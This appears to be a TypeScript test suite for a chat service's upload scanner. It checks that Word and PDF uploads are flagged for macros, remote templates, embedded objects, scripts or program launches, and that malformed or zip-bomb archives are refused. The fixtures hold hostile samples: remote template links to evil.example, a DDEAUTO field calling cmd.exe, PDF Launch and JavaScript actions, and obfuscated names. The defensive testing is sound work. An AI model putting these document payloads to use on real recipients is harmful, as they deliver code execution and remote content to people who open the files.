import { StoredFile } from "../src/files/stored-file-model.ts";
import { KnownUser } from "../src/users/user-model.ts";
import { docx, docxParts, relationship, tryUpload, upload, zip } from "./support-files.ts";
import { admin, buy, member, messagesOf, send, useChat } from "./support.ts";

const chat = useChat();
const OLE = Buffer.from("d0cf11e0a1b11ae1", "hex");
const pdf = (...objects: string[]) => Buffer.from(`%PDF-1.7\n${objects.join("\n")}\n%%EOF`, "latin1");
const macroType = "application/vnd.ms-office.vbaProject";

/** The directory's first part stands, by its word, where there is none. */
const pointingNowhere = (archive: Buffer): Buffer => {
  archive.writeUInt32LE(0xfffff, archive.indexOf("PK\u0001\u0002") + 42);
  return archive;
};

describe("a file that is unsafe to open", () => {
  const marked: [string, string, Buffer, string[]][] = [
    ["an old Word file", "a.doc", Buffer.concat([OLE, Buffer.alloc(600)]), ["old-word"]],
    [
      "an old Word file with macros",
      "a.doc",
      Buffer.concat([OLE, Buffer.alloc(255 * 1024 - 20), Buffer.from("_VBA_PROJECT", "utf16le"), Buffer.alloc(600)]),
      ["old-word", "macros"],
    ],
    [
      "a template on the web",
      "a.docx",
      docx({ relationships: relationship("attachedTemplate", "https://evil.example/t.dotm") }),
      ["remote-content"],
    ],
    [
      "a template in the network",
      "a.docx",
      docx({ relationships: relationship("attachedTemplate", "file:///\\\\evil\\t.dotm") }),
      ["remote-content"],
    ],
    [
      "an object from elsewhere",
      "a.docx",
      docx({ relationships: relationship("oleObject", "http://evil.example/a") }),
      ["remote-content"],
    ],
    [
      "one written with entities and blanks",
      "a.docx",
      docx({
        relationships: relationship(
          "frame",
          "ht&#x74;p://evil.example",
          `TargetMode ${" ".repeat(99)}= 'E&#120;ternal'`,
        ),
      }),
      ["remote-content"],
    ],
    [
      "an embedded object",
      "a.docx",
      docx({ relationships: relationship("oleObject", "embeddings/a.bin", "") }),
      ["embedded-file"],
    ],
    ["an embedded page", "a.docx", docx({ relationships: relationship("aFChunk", "a.html", "") }), ["embedded-file"]],
    [
      "a field that asks a program",
      "a.docx",
      docx({ body: "<w:instrText> DDEAUTO c:\\cmd.exe</w:instrText>" }),
      ["starts-program"],
    ],
    ["a PDF that starts a program", "a.pdf", pdf("<</OpenAction<</S/Launch/F(cmd.exe)>>>>"), ["starts-program"]],
    ["a PDF with a script", "a.pdf", pdf("<</OpenAction<</S /JavaScript /JS (app.alert(1))>>>>"), ["script"]],
    ["a script with an escaped name", "a.pdf", pdf("<</S/J#61va#53cript>>"), ["script"]],
    ["a PDF that carries files", "a.pdf", pdf("<</Names<</EmbeddedFiles 3 0 R>>>>"), ["embedded-file"]],
    ["a name between two pieces", "a.pdf", pdf("x".repeat(255 * 1024 - 9 - 4) + "/Launch "), ["starts-program"]],
  ];
  it.each(marked)("is kept and marked: %s", async (_what, name, content, risks) => {
    const as = member();
    const stored = await upload(chat.http, as, content, name);
    expect(stored.fileRisks).toEqual(risks);
    expect(await StoredFile.findOne({ uploaderId: as.id }).lean()).toMatchObject({ risks, complete: true });
  });

  const harmless: [string, string, Buffer][] = [
    [
      "a document with links",
      "a.docx",
      docx({ relationships: relationship("hyperlink", "https://www.scourt.go.kr/") }),
    ],
    [
      "a template on the author's disk",
      "a.docx",
      docx({ relationships: relationship("attachedTemplate", "file:///C:\\Users\\kim\\Normal.dotm") }),
    ],
    ["words about a program", "a.docx", docx({ body: "<w:t>DDEAUTO 필드란?</w:t>" })],
    ["a PDF that opens at its first page", "a.pdf", pdf("<</OpenAction [3 0 R /Fit] /Names<</Dests 4 0 R>>>>")],
    ["a PDF with links and a form", "a.pdf", pdf("<</S/URI/URI(https://www.scourt.go.kr)>>", "<</AcroForm 5 0 R>>")],
    ["a PDF with a name that only begins alike", "a.pdf", pdf("<</LaunchTime 1>>")],
  ];
  it.each(harmless)("is none of these: %s", async (_what, name, content) => {
    expect(await upload(chat.http, member(), content, name)).not.toHaveProperty("fileRisks");
  });

  const types = (contentType: string) => `<Override PartName="/word/x.bin" ContentType="${contentType}"/>`;
  const refused: [string, Buffer][] = [
    ["macros under another name", docx({ types: types(macroType), others: [{ name: "word/x.bin", content: "x" }] })],
    ["macros by their relationship", docx({ relationships: relationship("vbaProject", "x.bin", "") })],
    [
      "a macro document with another ending",
      docx({ types: types("application/vnd.ms-word.document.macroEnabled.main+xml") }),
    ],
    ["a directory without parts", zip(docxParts().map(({ name }) => ({ name })))],
    ["parts that are something else", zip(docxParts().map(({ name }) => ({ name, content: "hello" })))],
    ["a directory that points nowhere", pointingNowhere(docx())],
    [
      "a bomb that says it is small",
      zip([
        ...docxParts().filter(({ name }) => name !== "word/document.xml"),
        { name: "word/document.xml", content: Buffer.alloc(40 * 1024 * 1024, " "), unpackedBytes: 100 },
      ]),
    ],
    ["two parts with one name", zip([...docxParts(), { name: "word/Document.xml", content: "x" }])],
    ["a directory behind which something else stands", Buffer.concat([docx(), Buffer.from("PK")])],
    ["a document type of its own", docx({ types: "<!DOCTYPE x [<!ENTITY e 'y'>]>" })],
  ];
  it.each(refused)("is no .docx and refused: %s", async (_what, content) => {
    const as = member();
    const answer = await tryUpload(chat.http, as, content, "x.docx");
    expect(answer.status).toBe(415);
    expect(await StoredFile.countDocuments({ uploaderId: as.id })).toBe(0);
  });

  it("is shown to the customer and to staff with the message that carries it", async () => {
    const [owner, staff] = [member(), admin()];
    await KnownUser.create({ _id: staff.id, username: "office", version: 1 });
    const room = await buy(chat.http, owner);
    const { fileUrl } = await upload(chat.http, owner, Buffer.concat([OLE, Buffer.alloc(99)]), "소장.doc");
    const sent = await send(await chat.http.connect(owner), { chatRoomId: room.id, fileUrl });
    expect(sent).toMatchObject({ ok: true, message: { fileRisks: ["old-word"] } });
    for (const reader of [owner, staff])
      expect(await messagesOf(chat.http, reader, room.id)).toMatchObject([{ fileRisks: ["old-word"] }]);
  });
});
